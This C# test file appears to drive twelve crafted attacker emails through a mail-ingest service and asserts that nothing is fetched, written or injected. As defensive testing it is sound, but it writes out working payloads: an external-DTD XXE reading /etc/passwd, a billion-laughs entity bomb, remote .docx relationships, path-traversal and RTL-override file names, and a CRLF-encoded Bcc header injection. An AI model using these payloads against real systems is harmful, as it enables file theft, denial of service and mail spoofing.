using System.Net.Sockets;
using System.Text;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using MimeKit;
using Regin.Core.Persistence;
using Regin.Core.Reminders;
using Regin.Testing;
using Xunit.Abstractions;

using static Regin.MailIngest.Tests.Integration.AttackRound;

namespace Regin.MailIngest.Tests.Integration;

/// <summary>
/// Attacker round 55, through a real Dovecot and smtp4dev beside Alice's draft, read by the watcher, on SQLite and on
/// PostgreSQL: a colleague's address at her site quoting our real reply with its valid signed id (his server vouching
/// for nothing), her signed id in the Subject beside the attacker's own in References, 500 recipients with our mailbox
/// 50 times among them, 100 multiparts nested under 76-character boundaries, a .docx whose document.xml loads an
/// external DTD (out-of-band XXE), the billion laughs in the parts beside the document, a .docx whose package and
/// document relationships point at a URL, attachment names climbing out of a folder with an RTL override, an iCalendar
/// invite instead of the template, an encoded-word subject that decodes to CR LF "Bcc:", and a mail with no Date under
/// 200 Received lines. Nothing of hers changes, her reminders go on, every mail is kept raw, nothing is fetched or
/// written, and no reply goes to an address our server did not vouch for.
/// </summary>
public sealed class AttackerRound55Tests(MailServers servers, ITestOutputHelper output) : IClassFixture<MailServers>
{
    private const string Docx = "vnd.openxmlformats-officedocument.wordprocessingml.document";

    /// <summary>Round 53's listener: every external reference of this round points at it too, and nothing may ever connect to it.</summary>
    private static TcpListener Listener => AttackerRound53Tests.Listener;

    private static string Remote(string path) => AttackerRound53Tests.Remote(path);

    private static string OurPass(string domain) => AttackerRound54Tests.OurPass(domain);

    /// <summary>A mail as its raw header block and body, LF written as CRLF.</summary>
    private static MimeMessage Raw(string headers, string body) => AttackerRound53Tests.Raw(headers, body);

    private static string Head(Context c, string attack, string from, string subject = "REGIN practice") => AttackerRound54Tests.Head(c, attack, from, subject);

    private static MimePart File(byte[] bytes, string name, string mediaType, string subtype) => Intake.MailRound45Tests.File(bytes, name, mediaType, subtype);

    private static MimeMessage WithParts(MimeMessage message, string text, params MimeEntity[] parts) => AttackerRound49Tests.WithParts(message, text, parts);

    private static MimeMessage Stranger(Context c, string attack, string subject = "REGIN") =>
        MailTestHost.Authenticated(Mail(c, attack, new MailboxAddress("Mallory", $"mallory.{attack[4..]}@evil.example"), "", null, subject: subject));

    private static byte[] Template(string title) => AttackerRound43Tests.Word(new() { ["title"] = title, ["country"] = "Malta" });

    /// <summary>Our reply to Alice as a mail program quotes it under a reply ("On ... wrote:", each line "> ").</summary>
    private static string Quoting(string text) =>
        text + "\n\nOn Mon, 7 Dec 2026 at 09:12, REGIN project <reginproject@crpm.org> wrote:\n> Thank you, we have saved your answers as draft REGIN-0001.\n> Reply to this mail to add or change answers.\n";

    /// <summary>A filled template whose document.xml loads a DTD from our listener (an out-of-band XXE: a parameter entity
    /// fetched, which then sends a file's content out) and names a file entity in the title.</summary>
    private static byte[] ExternalDtd(byte[] docx) => AttackerRound43Tests.Rewritten(docx, "word/document.xml", xml =>
    {
        var declaration = xml.IndexOf("?>", StringComparison.Ordinal);
        var root = xml.IndexOf('<', declaration < 0 ? 0 : declaration + 2);
        var dtd = $"<!DOCTYPE w:document [<!ENTITY % remote SYSTEM \"{Remote("xxe.dtd")}\"> %remote; <!ENTITY secret SYSTEM \"file:///etc/passwd\">]>";
        return xml[..root] + dtd + xml[root..].Replace("XXE title", "XXE title &secret;", StringComparison.Ordinal);
    });

    /// <summary>The billion laughs in the parts a reader may open beside the document: its core properties and its styles.</summary>
    private static byte[] LaughingBeside(byte[] docx)
    {
        const string Dtd = "<!DOCTYPE x [<!ENTITY a \"lollollollollollollollollollol\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">"
            + "<!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">"
            + "<!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\"><!ENTITY h \"&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;\"><!ENTITY i \"&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;\">]>";
        const string Core = "<?xml version=\"1.0\"?>" + Dtd + "<cp:coreProperties xmlns:cp=\"http://schemas.openxmlformats.org/package/2006/metadata/core-properties\" "
            + "xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><dc:title>&i;</dc:title><dc:creator>&i;</dc:creator></cp:coreProperties>";
        return AttackerRound43Tests.Rewritten(docx, "_rels/.rels",
            rels => rels.Replace("</Relationships>", "<Relationship Id=\"rCore55\" Type=\"http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties\" Target=\"docProps/core55.xml\"/></Relationships>", StringComparison.Ordinal),
            zip =>
            {
                using var entry = new StreamWriter(zip.CreateEntry("docProps/core55.xml").Open());
                entry.Write(Core);
            });
    }

    /// <summary>A filled template whose document relates an OLE object, a frame and a header at our listener, and whose
    /// settings attach a remote template (TargetMode External: Word asks before it fetches them, a reader must never).</summary>
    private static byte[] RelatedToUs(string title) => AttackerRound43Tests.Word(new() { ["title"] = title, ["country"] = "Malta" }, d =>
    {
        var main = d.MainDocumentPart!;
        main.AddExternalRelationship("http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject", new Uri(Remote("payload.doc")));
        main.AddExternalRelationship("http://schemas.openxmlformats.org/officeDocument/2006/relationships/frame", new Uri(Remote("frame.html")));
        main.AddExternalRelationship("http://schemas.openxmlformats.org/officeDocument/2006/relationships/header", new Uri(Remote("header.xml")));
        d.AddExternalRelationship("http://schemas.openxmlformats.org/officeDocument/2006/relationships/extended-properties", new Uri(Remote("app.xml")));
    });

    /// <summary>100 multiparts each inside the one before, under boundaries of 76 characters (RFC 2046 allows 70), the
    /// answers in the innermost part.</summary>
    private static string NestedHundredDeep(string text)
    {
        static string Boundary(int level) => $"=_{level:D3}_" + new string((char)('a' + (level % 26)), 70);
        var body = new StringBuilder();
        for (var level = 0; level < 100; level++)
        {
            body.Append("--").Append(Boundary(level)).Append("\nContent-Type: multipart/mixed; boundary=\"").Append(Boundary(level + 1)).Append("\"\n\n");
        }
        body.Append("--").Append(Boundary(100)).Append("\nContent-Type: text/plain; charset=utf-8\n\n").Append(text).Append('\n');
        for (var level = 100; level >= 0; level--)
        {
            body.Append("--").Append(Boundary(level)).Append("--\n");
        }
        return body.ToString();
    }

    /// <summary>500 recipients in To and Cc, our mailbox every tenth.</summary>
    private static string FiveHundredRecipients()
    {
        static string Address(int i) => i % 10 == 0 ? "reginproject@crpm.org" : $"official{i}@region{i % 37}.example";
        return "To: " + string.Join(",\n ", Enumerable.Range(0, 250).Select(Address)) + "\nCc: " + string.Join(",\n ", Enumerable.Range(250, 250).Select(Address)) + "\n";
    }

    /// <summary>200 Received lines, as a mail that went round 200 relays (or a forger who wrote them) carries.</summary>
    private static string TwoHundredReceived() => string.Concat(Enumerable.Range(0, 200).Select(i =>
        $"Received: from relay{i}.evil.example (relay{i}.evil.example [192.0.2.{i % 250}])\n\tby relay{i + 1}.evil.example with ESMTP id {i:x8}; Mon, 7 Dec 2026 0{i % 10}:00:00 +0000\n"));

    /// <summary>A meeting invite in place of the template: the answers in its description, its organiser her address.</summary>
    private const string Invite = "BEGIN:VCALENDAR\nVERSION:2.0\nPRODID:-//Evil Corp//Calendar 1.0//EN\nMETHOD:REQUEST\nBEGIN:VEVENT\n"
        + "UID:m55-09@evil.example\nDTSTAMP:20261207T090000Z\nDTSTART:20261210T090000Z\nDTEND:20261210T100000Z\n"
        + "SUMMARY:REGIN practice REGIN-0001\nORGANIZER;CN=Alice Example:mailto:alice@example.org\nATTENDEE;RSVP=TRUE:mailto:reginproject@crpm.org\n"
        + "DESCRIPTION:[Q05] Calendar takeover title\\n[Q03] payments@mallory-mail.example\\n[Q06] Malta\nLOCATION:" + "https://evil.example/join\n"
        + "END:VEVENT\nEND:VCALENDAR\n";

    private static Attack[] Attacks(Func<string> strangersThread) =>
    [
        // A colleague's address at her site (bob@example.org), no pass from our server (anyone can write that From),
        // quoting our real reply to her with its valid signed id, and writing a new contact and title.
        new("m55-01-her-site-unvouched-quoting-our-real-reply", c => Mail(c, "m55-01", new MailboxAddress("Bob", "bob.m55@example.org"),
            Quoting("Please update our practice:\n[Q03] alice@mallory-mail.example\n[Q05] Colleague takeover title"), c.OurReplyToAlice, subject: "Re: REGIN-0001"),
            "unverified_update", null, Detail: "REGIN-0001"),
        // Her signed id in the Subject (as some mail programs keep "[ref:...]"), his own in In-Reply-To and References.
        new("m55-02-her-signed-id-in-subject-his-in-references", c => MailTestHost.Authenticated(Mail(c, "m55-02", new MailboxAddress("Mallory", "mallory@evil.example"),
            "[Q05] Subject id language cafe\n[Q13] 1991", strangersThread(), subject: $"Re: REGIN-0001 <{c.OurReplyToAlice}>")),
            "updated", "en", ["Alice"], Detail: "REGIN-0002"),
        // 500 recipients in To and Cc, our mailbox 50 times among them: one mail, one draft, one reply to its sender alone.
        new("m55-03-five-hundred-recipients-ours-fifty-times", c => Raw(OurPass("evil.example")
            + $"X-Attack: m55-03\nMessage-ID: <{c.User}.m55-03@mx.attacker.example>\nFrom: Mallory <mallory.03@evil.example>\n" + FiveHundredRecipients()
            + "Subject: REGIN practice\nContent-Type: text/plain; charset=utf-8\n", "[Q05] Many recipients language cafe\n[Q06] Malta\n"),
            "created", "en"),
        // 100 multiparts nested under 76-character boundaries, the answers in the innermost part.
        new("m55-04-hundred-deep-multiparts-with-long-boundaries", c => Raw(OurPass("evil.example") + Head(c, "m55-04", "Mallory <mallory.04@evil.example>")
            + $"Content-Type: multipart/mixed; boundary=\"=_000_{new string('a', 70)}\"\n", "This is a multi-part message in MIME format.\n"
            + NestedHundredDeep("[Q05] Deep nesting takeover title\n[Q06] Malta")),
            "failed", "en", Detail: "parts_too_deep"),
        // A filled template whose document.xml loads an external DTD from our listener and a file entity.
        new("m55-05-docx-document-loading-an-external-dtd", c => WithParts(Stranger(c, "m55-05"), "Template attached.",
            File(ExternalDtd(Template("XXE title")), "REGIN template.docx", "application", Docx)),
            "failed", "en", ["passwd", "root:"], Detail: "docx_unsafe:REGIN template.docx"),
        // The billion laughs in the package's core properties (a part beside the document a reader may open).
        new("m55-06-billion-laughs-in-core-properties", c => WithParts(Stranger(c, "m55-06"), "Template attached.",
            File(LaughingBeside(Template("Core laughs title")), "REGIN template.docx", "application", Docx)),
            "failed", "en", ["lollol"], Detail: "docx_unsafe:REGIN template.docx"),
        // A filled template whose document relates an OLE object, a frame and a header at our listener.
        new("m55-07-docx-relationships-to-a-url", c => WithParts(Stranger(c, "m55-07"), "Template attached.",
            File(RelatedToUs("External relationship title"), "REGIN template.docx", "application", Docx)),
            "created", "en"),
        // Attachment names that climb out of a folder, one with an RTL override that shows "../../REGIN templatexcod.exe".
        new("m55-08-attachment-names-out-of-the-folder-with-rtl-override", c => WithParts(Stranger(c, "m55-08"), "[Q05] Traversing names language cafe\n[Q06] Malta",
            File(Encoding.UTF8.GetBytes("{\"Mail\":{\"AuthServId\":\"mx.evil.example\"}}"), "../../appsettings.json", "application", "json"),
            File(Encoding.ASCII.GetBytes("not a zip at all"), "..\\..\\REGIN template\u202Eexe.docx", "application", Docx),
            File(Encoding.ASCII.GetBytes("not a zip either"), "/tmp/regin55-traversal.docx", "application", Docx)),
            "created", "en", ["\u202E", "../", "..\\", "/tmp/"], Detail: "docx_invalid:REGIN templateexe.docx,docx_invalid:regin55-traversal.docx"),
        // A meeting invite instead of the template: the answers in its description, her address as organiser.
        new("m55-09-icalendar-invite-instead-of-the-template", c =>
        {
            var m = Stranger(c, "m55-09", "Invitation: REGIN practice REGIN-0001");
            m.Body = new TextPart("calendar") { Text = Invite, ContentTransferEncoding = ContentEncoding.QuotedPrintable };
            m.Body.ContentType.Parameters.Add("method", "REQUEST");
            return m;
        }, "needs_info", "en", ["mallory-mail"]),
        // A subject whose encoded word decodes to CR LF "Bcc:" (header injection into our reply's subject).
        new("m55-10-encoded-subject-decoding-to-crlf-bcc", c => Raw(OurPass("evil.example") + Head(c, "m55-10", "Mallory <mallory.10@evil.example>",
            "=?utf-8?B?" + Convert.ToBase64String(Encoding.UTF8.GetBytes("REGIN practice\r\nBcc: victim@mallory-mail.example\r\nX-Injected: yes")) + "?=")
            + "Content-Type: text/plain; charset=utf-8\n", "[Q05] Injected subject language cafe\n[Q06] Malta\n"),
            "created", "en", ["X-Injected"]),
        // No Date, under 200 Received lines.
        new("m55-11-no-date-under-two-hundred-received", c => Raw(OurPass("evil.example") + TwoHundredReceived() + Head(c, "m55-11", "Mallory <mallory.11@evil.example>")
            + "Content-Type: text/plain; charset=utf-8\n", "[Q05] Many relays language cafe\n[Q06] Malta\n"),
            "created", "en"),
        // Her own signed Message-ID of our reply as his mail's Message-ID ("this is your own mail coming back"), in her thread.
        new("m55-12-our-reply-id-as-his-message-id", c =>
        {
            var m = MailTestHost.Authenticated(Mail(c, "m55-12", new MailboxAddress("Mallory", "mallory.12@evil.example"),
                "[Q05] Our own id takeover title\n[Q13] 1990", c.OurReplyToAlice, subject: "Re: REGIN-0001"));
            m.MessageId = c.OurReplyToAlice;
            return m;
        }, "unverified_update", "en", ["takeover", "1990"], Detail: "names REGIN-0001 by our thread"),
    ];

    [Theory]
    [InlineData(TestProviders.Sqlite)]
    [InlineData(TestProviders.PostgreSql)]
    public async Task Twelve_attacks_on_sites_recipients_nesting_packages_names_invites_and_headers_change_nothing_of_hers_and_fetch_nothing(string provider)
    {
        string? strangersThread = null;
        List<string> all = [];
        var result = await AttackRound.RunAsync(servers, provider, "55", Attacks(() => strangersThread!), new HashSet<string>(StringComparer.Ordinal) { "processed", "ignored", "failed" }, async host =>
        {
            all = await AssertNothingOfHersChangedAsync(host, a => a.Contains("mallory", StringComparison.Ordinal) || a.Contains("takeover", StringComparison.Ordinal) || a is "1990");
            // A mail with no Date gives the reminders no zone (the default hour), never an exception.
            var rows = await host.WithScopeAsync(sp => sp.GetRequiredService<ReginDbContext>().RawInputs.AsNoTracking().ToListAsync());
            // No outcome shown to the researchers holds a format or control character of a name the sender chose (m55-08's RTL override).
            Assert.DoesNotContain(rows, r => (r.OutcomeDetail ?? "").Any(ch => char.IsControl(ch) || char.GetUnicodeCategory(ch) == System.Globalization.UnicodeCategory.Format));
            foreach (var row in rows.Where(r => Encoding.Latin1.GetString(r.Content).Contains("X-Attack: m55-11", StringComparison.Ordinal)))
            {
                Assert.Null(ContributorTimeZone.FromMail(row.Content));
            }
        }, async (host, context) => strangersThread = await HisOwnPracticeAsync(host));

        output.WriteLine(result.Report);
        // Nothing was fetched (the DTD, the OLE object, the frame, the header) and no attachment was written where its name points.
        Assert.False(Listener.Pending(), "an external reference of a .docx was fetched");
        foreach (var path in new[] { "../../appsettings.json", "/tmp/regin55-traversal.docx" })
        {
            Assert.False(System.IO.File.Exists(Path.GetFullPath(path)), path);
        }
        // No reply carries an injected header: the decoded CR LF of m55-10 never became a line of ours.
        foreach (var reply in await servers.SentRawRepliesAsync())
        {
            Assert.DoesNotContain("\nBcc:", reply, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("X-Injected:", reply, StringComparison.Ordinal);
        }
        Assert.True(result.Failures.Count == 0, result.Report);
        // What the strangers wrote visibly was read (their own drafts); nothing of the laughs, a file or the invite's description.
        foreach (var title in new[] { "Many recipients language cafe", "External relationship title", "Injected subject language cafe", "Many relays language cafe", "Traversing names language cafe", "Subject id language cafe" })
        {
            Assert.True(all.Contains(title), title + "\n" + result.Report);
        }
        var hidden = all.Where(a => a.Contains("takeover", StringComparison.Ordinal) || a.Contains("mallory-mail", StringComparison.Ordinal)
            || a.Contains("lollol", StringComparison.Ordinal) || a.Contains("root:", StringComparison.Ordinal)).ToList();
        Assert.True(hidden.Count == 0, string.Join(" | ", hidden) + "\n" + result.Report);
    }
}
